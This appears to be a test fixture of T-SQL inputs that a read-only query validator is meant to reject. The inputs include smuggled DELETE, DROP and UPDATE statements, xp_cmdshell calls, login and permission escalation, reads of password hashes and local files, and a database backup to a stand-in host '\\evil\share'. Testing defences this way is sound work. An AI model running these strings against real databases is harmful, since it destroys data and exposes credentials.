SELECT 1; DELETE FROM users
%%
SELECT 1 DELETE FROM users
%%
SELECT * FROM users DROP TABLE users
%%
SELECT 1 EXEC sp_who
%%
SELECT 1 AS x SHUTDOWN
%%
SELECT 1 WAITFOR DELAY '01:00:00'
%%
SELECT 1; SELECT 2
%%
SELECT 1 SELECT 2
%%
SELECT * INTO #t FROM users
%%
SELECT * INTO dbo.evil FROM users
%%
sp_who
%%
xp_cmdshell 'dir'
%%
EXEC xp_cmdshell 'dir'
%%
EXEC('DELETE FROM users')
%%
EXECUTE sp_executesql N'DELETE FROM users'
%%
EXEC ('DELETE FROM users') AT linked1
%%
SELECT * FROM OPENROWSET(BULK 'C:\x.txt', SINGLE_CLOB) AS x
%%
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')
%%
SELECT * FROM OPENQUERY(linked1, 'DELETE FROM users OUTPUT deleted.*')
%%
SELECT * FROM OPENDATASOURCE('SQLNCLI','Data Source=evil').db.dbo.t
%%
SELECT * FROM linked1.db.dbo.users
%%
WITH x AS (SELECT * FROM users) DELETE FROM x
%%
;WITH x AS (SELECT * FROM users) UPDATE x SET salary = 0
%%
INSERT INTO orders(user_id) SELECT id FROM users
%%
INSERT INTO t EXEC sp_who
%%
UPDATE users SET salary = 0
%%
MERGE users AS t USING orders AS s ON t.id=s.user_id WHEN MATCHED THEN DELETE;
%%
TRUNCATE TABLE users
%%
DECLARE @x int = 1
%%
DECLARE @x nvarchar(100) = N'DELETE FROM users'; EXEC(@x)
%%
SET @x = 1
%%
SELECT @x = 1
%%
SELECT @x += id FROM users
%%
IF 1=1 DROP TABLE users
%%
WHILE 1=1 SELECT 1
%%
BEGIN TRAN
%%
COMMIT
%%
BEGIN DELETE FROM users END
%%
BEGIN TRY DELETE FROM users END TRY BEGIN CATCH END CATCH
%%
GOTO x
%%
USE master
%%
EXECUTE AS LOGIN = 'sa'
%%
REVERT
%%
SET IMPLICIT_TRANSACTIONS OFF
%%
SET ROWCOUNT 0
%%
SET QUOTED_IDENTIFIER OFF
%%
DBCC SHRINKDATABASE (x)
%%
KILL 55
%%
BACKUP DATABASE x TO DISK = '\\evil\share\x.bak'
%%
RESTORE DATABASE x FROM DISK = 'c:\x'
%%
BULK INSERT users FROM 'c:\x'
%%
SELECT NEXT VALUE FOR dbo.seq1
%%
SELECT * FROM users WITH (TABLOCKX, HOLDLOCK)
%%
SELECT * FROM users WITH (UPDLOCK)
%%
SELECT * FROM users (XLOCK)
%%
SELECT * FROM sys.fn_trace_gettable('c:\x.trc', default)
%%
SELECT * FROM sys.dm_os_file_exists('c:\x')
%%
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\x', null, null, null)
%%
SELECT * FROM sys.fn_get_audit_file('\\evil\x', default, default)
%%
SELECT name, password_hash FROM sys.sql_logins
%%
SELECT * FROM master.sys.syslogins
%%
SELECT t.text FROM sys.dm_exec_requests r CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t
%%
SELECT dbo.my_udf(1)
%%
SELECT * FROM dbo.my_tvf(1)
%%
SELECT * FROM master.dbo.spt_values
%%
SELECT * FROM tempdb..x
%%
/* a /* nested */ ; */ DELETE FROM users
%%
SELECT 1 /* x */ DELETE /* y */ FROM users
%%
SELECT 1 -- x
DELETE FROM users
%%
SELECT 1
GO
DELETE FROM users
%%
CREATE TABLE x(a int)
%%
CREATE OR ALTER PROCEDURE p AS DELETE FROM users
%%
ALTER LOGIN sa WITH PASSWORD = 'x'
%%
GRANT CONTROL SERVER TO x
%%
RECONFIGURE
%%
PRINT 'x'
%%
RAISERROR('x', 16, 1)
%%
DISABLE TRIGGER ALL ON DATABASE
%%
SELECT * FROM users FOR BROWSE OPTION (MAXRECURSION 0) DELETE FROM users
%%
SELECT id FROM users OPTION (QUERYTRACEON 8690)
%%
SELECT * FROM (DELETE FROM users OUTPUT deleted.*) AS x
%%
SELECT * FROM (SELECT id FROM users) AS x CROSS APPLY OPENROWSET(BULK 'c:\x', SINGLE_BLOB) b
%%
SELECT 1 [a;b] DELETE FROM users
%%
SELECT 'a''; DELETE FROM users --' DELETE FROM users
%%
WRITETEXT users.name @ptr 'x'
%%
RECEIVE * FROM q
%%
SELECT * FROM OPENXML(@h, '/a')
%%
SELECT dbo.clr.Method(1)
%%
SELECT 1 /* /* */ ' */ DELETE FROM users --'
%%
SELECT 1 /* /* */ [ */ DELETE FROM users --]
%%
SELECT 1 /* /* */ -- */ DELETE FROM users
%%
SELECT "a" FROM users; DELETE FROM users --"
%%
SELECT id FROM users WHERE name = "x' DELETE FROM users --" AND id = 1
%%
SELECT 1 x
DELETE FROM users
%%
SELECT [a]] FROM users; DELETE FROM users --]
%%
SELECT 1 garbage tokens here FROM users
%%
SELECT id FROM users WHERE
%%
SELECT id FROM users u v w
%%
SELECT 1 )
%%
SELECT ( 1
%%
SELECT 1 FROM users ORDER BY 1 foo
%%
SELECT id FROM users WITH (NOLOCK) EXEC sp_who
%%
SELECT id FROM users AS x (a) EXEC sp_who
%%
SELECT id FROM users OPTION (MAXRECURSION 5) EXEC sp_who
%%
SELECT id FROM users FOR XML AUTO DELETE FROM users
%%
SELECT id FROM users GROUP BY id DELETE FROM users
%%
SELECT id FROM users ORDER BY id OFFSET 0 ROWS DELETE FROM users
%%
SELECT id FROM users WHERE id = 1 EXEC('DELETE FROM users')
%%
SELECT id FROM users UNION SELECT 1 EXEC('x')
%%
SELECT CASE WHEN 1=1 THEN 1 END EXEC('x')
%%
SELECT 1 KILL 5
%%
SELECT 1 REVERT
%%
SELECT 1 THROW
%%
SELECT 1 GRANT SELECT ON users TO public
%%
SELECT 1 DENY SELECT ON users TO public
%%
SELECT 1 USE master
%%
SELECT 1 MERGE users USING orders ON 1=1 WHEN MATCHED THEN DELETE;
%%
SELECT 1 DBCC SHRINKFILE(1)
%%
SELECT 1 BULK INSERT users FROM 'x'
%%
SELECT 1 UPDATE STATISTICS users
%%
SELECT 1 UPDATE users SET salary=0
%%
SELECT 1 TRUNCATE TABLE users
%%
SELECT 1 DECLARE @x int
%%
SELECT 1 IF 1=1 DROP TABLE users
%%
SELECT 1 WHILE 1=1 PRINT 'x'
%%
SELECT 1 BEGIN TRAN
%%
SELECT 1 COMMIT
%%
SELECT 1 SAVE TRAN x
%%
SELECT 1 OPEN c
%%
SELECT 1 FETCH NEXT FROM c
%%
SELECT 1 RETURN
%%
SELECT 1 GOTO x
%%
SELECT 1 RECONFIGURE
%%
SELECT 1 CHECKPOINT
%%
SELECT 1 ENABLE TRIGGER t ON users
%%
SELECT 1 AS [x] DISABLE TRIGGER t ON users
%%
SELECT 1 SEND ON CONVERSATION @h
%%
SELECT 1 ADD SIGNATURE TO x BY CERTIFICATE y
%%
SELECT 1 COPY INTO users FROM 'x'
%%
SELECT 1 sp_who
%%
SELECT id FROM users sp_who
%%
SELECT id FROM users sp_who 'x'
%%
SELECT 1 x; sp_who
